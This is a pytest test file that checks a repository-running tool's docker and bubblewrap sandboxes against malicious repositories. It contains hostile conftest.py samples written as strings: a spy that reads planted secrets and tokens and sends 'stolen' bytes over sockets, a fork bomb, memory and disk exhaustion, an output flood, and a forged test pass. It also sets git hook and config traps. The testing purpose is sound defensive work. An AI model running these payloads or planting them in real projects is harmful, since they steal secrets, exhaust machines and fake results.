"""Repositories that attack whoever runs their tests: nothing gets out, everything ends, the host is as it was."""

from __future__ import annotations

import os
import re
import secrets
import socket
import subprocess
import time
from collections.abc import Callable, Iterator
from contextlib import closing, suppress
from dataclasses import dataclass, field
from pathlib import Path
from threading import Thread

import pytest

from repoagent.domain import Ending
from repoagent.errors import UserError
from repoagent.sandbox.base import Engine, SandboxLimits
from repoagent.sandbox.owner import OWNER_LABEL, Owner
from repoagent.testbed.build_plan import CommitInfo
from repoagent.testbed.runner import Testbed
from repoagent.trace import Trace
from repoagent.workspace import Workspace, resolve_source

SANDBOXES = [
    pytest.param("docker", marks=[pytest.mark.docker, pytest.mark.network]),
    pytest.param("bubblewrap", marks=[pytest.mark.bubblewrap, pytest.mark.network]),
]
SMALL = SandboxLimits(memory_mib=512, cpus=1.0, pids=64, scratch_mib=128, output_bytes=100_000)

SPY = """\
import os, pathlib, socket


def attempt(what):
    try:
        return what()
    except BaseException as error:
        return type(error).__name__


def reach(address):
    with socket.create_connection(address, timeout=2) as connection:
        connection.sendall(b"stolen")
    return "REACHED"


def attempt_bytes(path):
    try:
        return path.read_bytes()
    except OSError:
        return b""


facts = dict(
    file=attempt(lambda: pathlib.Path("{secret}").read_text()),
    variable=str([value for value in os.environ.values() if "{mark}" in value]),
    processes=str(sum(b"{mark}" in attempt_bytes(path) for path in pathlib.Path("/proc").glob("[0-9]*/environ"))),
    listener=attempt(lambda: reach(("{host}", {port}))),
    loopback=attempt(lambda: reach(("127.0.0.1", {port}))),
    outside=attempt(lambda: reach(("192.0.2.1", 80))),
    write=attempt(lambda: pathlib.Path("{folder}/written").write_text("x")),
    root=attempt(lambda: pathlib.Path("/etc/written-{mark}").write_text("x")),
    user=attempt(lambda: os.setuid(0)),
    docker=attempt(lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock") or "REACHED"),
)
raise RuntimeError("\\n".join(f"FACT {name}={value}" for name, value in facts.items()))
"""
TEST = "def test_nothing():\n    pass\n"
BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
DEAF = """\
import os, signal, time
for number in (1, 2, 3, 13, 15):
    signal.signal(number, signal.SIG_IGN)
if os.fork() == 0:
    os.setsid()
time.sleep(10_000)
"""
HOG = "x = []\nwhile True:\n    x.append(bytearray(64 * 1024 * 1024))\n"
FILLER = "with open('/tmp/big', 'wb') as file:\n    while True:\n        file.write(bytes(1024 * 1024))\n"
CHATTER = "import sys\nwhile True:\n    print('x' * 10_000)\n"
FORGER = "import os\nprint('1 passed')\nos._exit(0)\n"


@dataclass
class Listener:
    """Waits on all addresses of the host for somebody who should not be able to come."""

    socket: socket.socket
    came: list[str] = field(default_factory=list)

    def wait(self) -> None:
        """Note every connection, until the socket is closed."""
        while True:
            try:
                connection, address = self.socket.accept()
            except OSError:
                return
            self.came.append(address[0])
            connection.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener(socket.create_server(("0.0.0.0", 0)))  # noqa: S104 - whoever reaches it fails the test
    thread = Thread(target=made.wait)
    thread.start()
    yield made
    made.socket.shutdown(socket.SHUT_RDWR)
    made.socket.close()
    thread.join()


@pytest.fixture(scope="module")
def cache(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """Environments of bubblewrap's, thrown away after the module."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("REPOAGENT_CACHE", str(tmp_path_factory.mktemp("cache")))
        yield


@pytest.fixture
def engine(request: pytest.FixtureRequest, cache: None) -> Engine:
    from repoagent.sandbox import choose_engine

    made = choose_engine(str(request.param))
    made.prepare(lambda _line: None)
    return made


Prepare = Callable[[Engine, str], Testbed]


@pytest.fixture
def prepare(tmp_path: Path) -> Prepare:
    """Builds the environment while the repository is still tame, as its `conftest.py` attacks at the first chance."""

    def made(engine: Engine, conftest: str) -> Testbed:
        root = tmp_path / "repository"
        root.mkdir()
        (root / "test_it.py").write_text(TEST)
        bed = Testbed.prepare(engine, root, origin=CommitInfo(), trace=Trace(), timeout=300)
        (root / "conftest.py").write_text(conftest)
        return bed

    return made


@pytest.mark.parametrize("engine", SANDBOXES, indirect=True)
def test_a_spy_finds_nothing_and_reaches_nobody(
    engine: Engine, prepare: Prepare, listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    mark = f"mark{secrets.token_hex(6)}"
    secret = tmp_path / f"{mark}.txt"
    secret.write_text(mark)
    monkeypatch.setenv("GITHUB_TOKEN", mark)
    facts = {"mark": mark, "secret": secret, "folder": tmp_path, "host": _own_address()}
    port = listener.socket.getsockname()[1]
    conftest = SPY
    for name, value in (*facts.items(), ("port", port)):
        conftest = conftest.replace("{" + name + "}", str(value))

    report = prepare(engine, conftest).measure_baseline(timeout=60).report

    told = dict(re.findall(r"FACT (\w+)=(.*)", report.log))
    assert len(told) == 10, report.log
    assert mark not in told["file"]
    assert (told["variable"], told["processes"]) == ("[]", "0")
    assert "REACHED" not in told.values()
    assert listener.came == []
    assert not told["write"].isdigit() or not (tmp_path / "written").exists()
    assert not told["root"].isdigit()
    assert told["user"] in {"PermissionError", "OSError"}
    assert sorted(path.name for path in tmp_path.iterdir()) == [f"{mark}.txt", "repository"]


@pytest.mark.parametrize("engine", SANDBOXES, indirect=True)
@pytest.mark.parametrize(
    ("conftest", "endings"),
    [
        (BOMB, {Ending.TIMED_OUT}),
        (DEAF, {Ending.TIMED_OUT}),
        (HOG, {Ending.CRASHED, Ending.NOT_COLLECTED}),
        (FILLER, {Ending.CRASHED, Ending.NOT_COLLECTED}),
        (CHATTER, {Ending.TIMED_OUT, Ending.NOT_COLLECTED}),
        (FORGER, {Ending.CRASHED}),
    ],
    ids=["fork bomb", "deaf sleeper", "memory hog", "disk filler", "chatterbox", "forged success"],
)
def test_an_attack_on_the_machine_ends_within_its_limits_and_proves_nothing(
    conftest: str, endings: set[Ending], engine: Engine, prepare: Prepare
) -> None:
    bed = prepare(engine, conftest)
    before, others = _below(os.getpid()), _list_own_containers(engine)
    started = time.monotonic()
    with engine.open(bed.environment, bed.root, SMALL) as sandbox:
        containers = sorted(_list_own_containers(engine) - others)
        if engine.name == "docker":
            assert len(containers) == 1
            assert _inside(containers), "its processes can be found"
        report = bed.run(sandbox, timeout=6 if Ending.TIMED_OUT in endings else 30)
    assert time.monotonic() - started < 60
    assert report.ending in endings, report.log[-500:]
    assert report.passed == frozenset()
    assert len(report.log) <= 20_000
    assert _all_end(before, containers)


@pytest.mark.parametrize("setting", ["network = true", 'sandbox = "none"', "model = 1", "trust = true\ntest = 'true'"])
def test_a_repository_s_settings_may_name_its_tests_and_nothing_else(setting: str, tmp_path: Path) -> None:
    from repoagent.sandbox.fake import FakeEngine

    (tmp_path / ".repoagent.toml").write_text(f"{setting}\n")
    engine = FakeEngine()
    with pytest.raises(UserError, match=r"may set language, python, packages, build, test, services only"):
        Testbed.prepare(engine, tmp_path, origin=CommitInfo(), trace=Trace(), timeout=10)
    assert engine.builds == []


def test_traps_in_a_repository_s_git_settings_do_not_spring(tmp_path: Path) -> None:
    sprung = tmp_path / "sprung"
    root = tmp_path / "repository"
    root.mkdir()
    trap = tmp_path / "trap.sh"
    trap.write_text(f"#!/bin/sh\necho $0 >> {sprung}\ncat\n")
    trap.chmod(0o755)
    (root / "a.py").write_text("x = 1\n")
    (root / ".gitattributes").write_text("*.py filter=trap diff=trap\n")
    _git(root, "init", "--quiet")
    _git(root, "add", "--all")
    _git(root, "-c", "user.name=A", "-c", "user.email=a@b.c", "commit", "--quiet", "-m", "start")
    for name in ("core.fsmonitor", "core.sshCommand", "core.pager", "core.editor", "diff.external", "gpg.program"):
        _git(root, "config", name, str(trap))
    for name in ("filter.trap.smudge", "filter.trap.clean", "filter.trap.process", "diff.trap.textconv"):
        _git(root, "config", name, str(trap))
    for hook in ("post-checkout", "post-index-change", "pre-commit", "reference-transaction"):
        (root / ".git" / "hooks" / hook).write_bytes(trap.read_bytes())
        (root / ".git" / "hooks" / hook).chmod(0o755)
    (root / "a.py").write_text("x = 2\n")

    source = resolve_source(str(root), None, None, tmp_path / "cache")
    workspace = Workspace.create(source, tmp_path / "copy")

    assert source.dirty
    assert workspace.read("a.py") == "x = 1\n"
    assert not sprung.exists()


def _git(root: Path, *arguments: str) -> None:
    subprocess.run(("git", *arguments), cwd=root, check=True, env={**os.environ, "GIT_CONFIG_NOSYSTEM": "1"})


def _own_address() -> str:
    """An address of this machine that is not loopback, where it has one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # sends nothing
        except OSError:
            return "127.0.0.1"
        return str(probe.getsockname()[0])


def _all_end(before: set[int], containers: list[str]) -> bool:
    """Whether the processes of an attack are gone: those below this one, and those in its containers."""
    for _ in range(50):
        if not (_below(os.getpid()) - before or _inside(containers)):
            return True
        time.sleep(0.1)
    return False


def _below(pid: int) -> set[int]:
    """All processes that one started, and that those did."""
    children: dict[int, set[int]] = {}
    for path in Path("/proc").glob("[0-9]*/stat"):
        with suppress(OSError):
            parent = int(path.read_text(errors="replace").rpartition(")")[2].split()[1])
            children.setdefault(parent, set()).add(int(path.parent.name))
    found = set[int]()
    waiting = [pid]
    while waiting:
        new = children.get(waiting.pop(), set()) - found
        found |= new
        waiting += new
    return found


def _inside(containers: list[str]) -> list[int]:
    """The processes in containers, by what the kernel says of their control group."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cgroup"):
        with suppress(OSError):
            if any(container in path.read_text() for container in containers):
                found.append(int(path.parent.name))
    return found


def _list_own_containers(engine: Engine) -> set[str]:
    """The identifiers of this process's containers; bubblewrap's sandboxes have their processes below this one."""
    if engine.name != "docker":
        return set()
    import docker

    filters: dict[str, str | list[str] | bool] = {"label": f"{OWNER_LABEL}={Owner.from_this_process()}"}
    with closing(docker.from_env()) as client:
        return {str(container.id) for container in client.containers.list(filters=filters)}
